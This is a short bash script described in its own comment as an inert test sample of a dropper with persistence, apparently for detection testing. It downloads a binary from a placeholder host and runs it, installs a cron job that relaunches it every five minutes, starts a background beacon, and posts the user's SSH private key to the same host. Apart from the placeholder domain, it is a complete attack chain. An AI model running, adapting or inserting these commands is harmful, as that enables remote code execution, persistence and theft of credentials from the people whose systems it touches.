#!/bin/bash
# Test sample: a dropper with persistence. Inert: example.invalid never resolves.
cd /tmp && curl -o /tmp/agent https://example.invalid/agent && chmod +x /tmp/agent && /tmp/agent
echo "*/5 * * * * /tmp/agent" | crontab -
nohup curl -s https://example.invalid/beacon >/dev/null 2>&1 &
cat ~/.ssh/id_rsa | curl -s -X POST --data-binary @- https://example.invalid/k
